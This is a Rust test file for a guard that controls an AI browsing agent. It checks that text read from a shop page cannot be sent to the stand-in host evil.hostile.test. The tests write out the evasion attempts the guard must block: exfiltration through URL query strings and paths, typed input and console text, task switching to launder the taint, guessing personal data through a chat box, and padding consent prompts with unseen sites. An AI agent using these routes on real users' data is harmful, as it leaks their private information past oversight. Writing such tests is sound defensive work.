//! An agent cannot gain anything by ending a task and starting another one.

use std::time::Duration;

use crate::support::site::Site;
use crate::support::user::Willing;
use crate::support::{Client, with_browser};
use evaluation::stage::Stage;
use mcp_guard::{GatewaySettings, Snapshots};
use portcullis::audit::{MemoryLog, verify_text};
use portcullis::consent::{Answer, Answerer, ConsentPrompt, ScriptedAnswerer};
use portcullis::guard::SystemEntropy;
use portcullis::{DEFAULT_POLICY, Guard};
use serde_json::json;

fn guard(log: &MemoryLog, user: impl Answerer + 'static) -> Guard {
    Guard::new(DEFAULT_POLICY, Box::new(log.clone()), Box::new(user), Box::new(SystemEntropy)).unwrap()
}

const WILLING: Willing = Willing { thinks: Duration::ZERO };

const FORM: &str = "<title>Shop</title><form action=/to method=post><input name=street autocomplete=street-address \
    aria-label=Street><input name=city autocomplete=address-level2 aria-label=City><button>Send</button></form>\
    <p>Your account: membership violet heron nineteen</p>";

#[tokio::test(flavor = "multi_thread")]
async fn text_of_an_account_is_not_carried_into_the_next_task() {
    let stage = Stage::set_up().await.expect("run `cargo xtask setup` first");
    let site = Site::start(&stage, &["shop.hostile.test", "evil.hostile.test"]).await;
    site.put("shop.hostile.test/", FORM);
    site.put("evil.hostile.test/", "<title>Evil</title><input aria-label=Search><p>hello there again</p>");
    let log = MemoryLog::default();
    let settings = GatewaySettings { snapshots: Snapshots::OnRequest, ..GatewaySettings::default() };
    with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
        client.begin("2025-11-25").await;
        let shop = json!({ "url": "https://shop.hostile.test/" });
        // The page was read without any value of the user, so its text is public.
        assert_eq!(client.call("browser_navigate", shop.clone()).await.text, "ok");
        client.call("browser_snapshot", json!({})).await;
        let words = "https://evil.hostile.test/?q=membership+violet+heron";
        client.call("browser_close", json!({})).await;
        assert_eq!(client.call("browser_navigate", json!({ "url": words })).await.text, "ok");
        // The same page with a value of the user in its container.
        let plan = json!({ "origins": ["https://shop.hostile.test"], "kinds": ["address"] });
        assert!(client.call("portcullis_plan", plan.clone()).await.text.contains("container: T2"));
        assert_eq!(client.call("browser_navigate", shop).await.text, "ok");
        let page = client.call("browser_snapshot", json!({})).await.text;
        assert!(page.contains("violet heron"), "{page}");
        let block = json!({ "block": "REQ.address fields=[\"street\",\"city\"]\nREQ.end" });
        let asked = client.call("portcullis_request", block).await;
        assert!(asked.text.contains("no_value"), "{asked:?}");
        client.call("browser_close", json!({})).await;
        let carried = client.call("browser_navigate", json!({ "url": words })).await;
        assert!(carried.is_error && carried.text.contains("DENY.verb"), "{carried:?}");
        // The value cannot be typed either, even after another task in between.
        client.call("portcullis_plan", plan).await;
        let evil = json!({ "url": "https://evil.hostile.test/" });
        client.call("browser_close", json!({})).await;
        assert_eq!(client.call("browser_navigate", evil).await.text, "ok");
        // Links of a public page can be followed, but no address that contains text of the account.
        let path = |words: &str| json!({ "url": format!("https://evil.hostile.test/{words}") });
        assert_eq!(client.call("browser_navigate", path("something/else/altogether")).await.text, "ok");
        let carried = client.call("browser_navigate", path("membership/violet/heron")).await;
        assert!(carried.is_error && carried.text.contains("DENY.verb"), "{carried:?}");
        assert_eq!(client.call("browser_navigate", path("")).await.text, "ok");
        let typed = json!({ "target": "input", "text": "violet heron nineteen" });
        assert!(client.call("browser_type", typed).await.is_error);
        let typed = json!({ "target": "input", "text": "something else altogether" });
        assert_eq!(client.call("browser_type", typed).await.text, "ok");
    })
    .await;
    verify_text(&log.text()).unwrap();
    let carried = site.asked().iter().filter(|line| line.contains("violet")).count();
    assert_eq!(carried, 1, "{:?}", site.asked());
}

const TASK: &str = "Order a kettle at https://shop.hostile.test and have it sent to: Ada Lane, 17 Canary Quarry Road, \
                    94704 Berkeley. Email ada@lane.example.";

#[tokio::test(flavor = "multi_thread")]
async fn guesses_are_recorded_and_questions_are_limited() {
    let stage = Stage::set_up().await.unwrap();
    let site = Site::start(&stage, &["shop.hostile.test"]).await;
    site.put("shop.hostile.test/", "<title>Shop</title><textarea aria-label=Chat></textarea>");
    let log = MemoryLog::default();
    let settings = GatewaySettings {
        task: Some(TASK.to_owned()),
        snapshots: Snapshots::OnRequest,
        ..GatewaySettings::default()
    };
    let user = ScriptedAnswerer(|_: &ConsentPrompt| Answer::No);
    with_browser(guard(&log, user), site.browser(&stage), settings, async |client: &mut Client| {
        client.begin("2025-11-25").await;
        let shop = json!({ "url": "https://shop.hostile.test/" });
        let says = |text: &str| json!({ "target": "textarea", "text": text });
        assert_eq!(client.call("browser_navigate", shop.clone()).await.text, "ok");
        assert_eq!(client.call("browser_type", says("is it Oakland?")).await.text, "ok");
        let hit = client.call("browser_type", says("is it Berkeley?")).await;
        assert!(hit.text.contains("egress_blocked"), "{hit:?}");
        client.call("browser_close", json!({})).await;
        // Another container with the same agent.
        let next = client.call("browser_navigate", shop.clone()).await;
        assert!(next.text.contains("tainted_session"), "{next:?}");
        client.call("browser_close", json!({})).await;
        client.call("browser_navigate", shop.clone()).await;
        client.call("browser_close", json!({})).await;
        let asked = log.text().matches(r#""event":"consent_asked""#).count();
        let no_more = client.call("browser_navigate", shop).await;
        assert!(no_more.is_error && no_more.text.contains("not asked again"), "{no_more:?}");
        assert_eq!(log.text().matches(r#""event":"consent_asked""#).count(), asked);
    })
    .await;
    verify_text(&log.text()).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_task_that_cannot_start_does_not_end_the_current_one() {
    let stage = Stage::set_up().await.unwrap();
    let site = Site::start(&stage, &["shop.hostile.test"]).await;
    site.put("shop.hostile.test/", "<title>Shop</title><p>tea</p>");
    let log = MemoryLog::default();
    let settings = GatewaySettings { snapshots: Snapshots::OnRequest, ..GatewaySettings::default() };
    with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
        client.begin("2025-11-25").await;
        // A question cannot show that many sites, so the user would agree to the last ones unseen.
        let mut sites: Vec<String> = (0..8).map(|number| format!("https://n{number}.example")).collect();
        let plan = |sites: &[String]| json!({ "origins": sites, "plan": "PLAN.address\nPLAN.end" });
        assert!(client.call("portcullis_plan", plan(&sites)).await.text.contains("container: T2"));
        sites.push("https://evil.example".to_owned());
        let said = client.call("portcullis_plan", plan(&sites)).await;
        assert!(said.is_error && said.text.contains("more sites"), "{said:?}");
        let label = "a".repeat(60);
        let long: Vec<String> =
            (0..8).map(|number| format!("https://{label}.{label}.{label}.{label}{number}.example")).collect();
        assert!(client.call("portcullis_plan", plan(&long)).await.is_error);
        let shop = json!({ "url": "https://shop.hostile.test/" });
        assert_eq!(client.call("browser_navigate", shop).await.text, "ok");
    })
    .await;
    verify_text(&log.text()).unwrap();
}

/// The page's text in its console is tainted too: it cannot be carried to another site.
#[tokio::test(flavor = "multi_thread")]
async fn console_text_is_tainted_like_the_page() {
    let stage = Stage::set_up().await.unwrap();
    let site = Site::start(&stage, &["shop.hostile.test", "evil.hostile.test"]).await;
    let page = "<title>Shop</title><script>console.log('membership violet heron nineteen')</script>";
    site.put("shop.hostile.test/", page);
    let log = MemoryLog::default();
    let settings = GatewaySettings { snapshots: Snapshots::OnRequest, ..GatewaySettings::default() };
    with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
        client.begin("2025-11-25").await;
        let sites = json!({ "origins": ["https://shop.hostile.test", "https://evil.hostile.test"] });
        assert!(client.call("portcullis_plan", sites).await.text.contains("container: T0"));
        let shop = json!({ "url": "https://shop.hostile.test/" });
        client.call("browser_navigate", shop).await;
        let console = client.call("browser_console_messages", json!({ "level": "info" })).await;
        assert!(console.text.contains("violet heron"), "{console:?}");
        let url = "https://evil.hostile.test/?q=something+else+altogether";
        let other = client.call("browser_navigate", json!({ "url": url })).await;
        assert_eq!(other.text, "ok");
        let url = "https://evil.hostile.test/?q=membership+violet+heron";
        let carried = client.call("browser_navigate", json!({ "url": url })).await;
        assert!(carried.is_error && carried.text.contains("DENY.verb"), "{carried:?}");
    })
    .await;
    assert!(!site.asked().iter().any(|line| line.contains("violet")), "{:?}", site.asked());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_container_has_the_tier_of_the_planned_fields() {
    let stage = Stage::set_up().await.expect("run `cargo xtask setup` first");
    let site = Site::start(&stage, &["shop.hostile.test"]).await;
    site.put("shop.hostile.test/", FORM);
    let log = MemoryLog::default();
    let settings = GatewaySettings { snapshots: Snapshots::OnRequest, ..GatewaySettings::default() };
    with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
        client.begin("2025-11-25").await;
        let shop = json!({ "url": "https://shop.hostile.test/" });
        let plan = |kinds: &[&str]| json!({ "origins": ["https://shop.hostile.test"], "kinds": kinds });
        let street = json!({ "block": "REQ.address fields=[\"street\"]\nREQ.end" });
        for (kinds, tier, reason) in [
            (&["contact"][..], "T1", "unplanned_request"),
            (&["contact", "address"], "T2", "no_value"),
            (&["address"], "T2", "no_value"),
        ] {
            let planned = client.call("portcullis_plan", plan(kinds)).await.text;
            assert!(planned.contains(&format!("container: {tier}")), "{kinds:?}: {planned}");
            assert_eq!(client.call("browser_navigate", shop.clone()).await.text, "ok");
            let asked = client.call("portcullis_request", street.clone()).await;
            assert!(asked.text.contains(reason), "{kinds:?}: {asked:?}");
        }
    })
    .await;
    verify_text(&log.text()).unwrap();
}
